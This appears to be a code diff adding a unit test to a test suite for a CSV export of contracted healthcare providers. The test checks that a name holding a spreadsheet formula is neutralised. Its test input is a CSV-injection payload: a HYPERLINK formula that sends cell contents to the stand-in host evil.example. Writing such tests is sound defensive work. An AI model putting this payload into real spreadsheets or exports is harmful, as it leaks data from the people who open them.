@@ -48,6 +48,12 @@ describe('the contracted-provider list', () => {
     expect(contractedListCsv({ ...list, providers: [{ agb: '1', name: 'A, "B"' }] })).toBe('agb,naam\r\n1,"A, ""B"""\r\n');
   });
 
+  it('publishes no live spreadsheet formula in the CSV (a name starting with = + - @ is neutralised)', async () => {
+    const list = buildContractedList({ cycle: await msr(), entries: [{ agb: '11111111', name: '=HYPERLINK("http://evil.example/?d="&A3,"Klik hier")' }], now: NOW });
+    const [, row] = contractedListCsv(list).split('\r\n');
+    expect(row).toBe(`11111111,"'=HYPERLINK(""http://evil.example/?d=""&A3,""Klik hier"")"`);
+  });
+
   it('keeps "last changed" when a republication lists the same providers', async () => {
     const dir = await mkdtemp(join(tmpdir(), 'inkoop-pub-'));
     try {
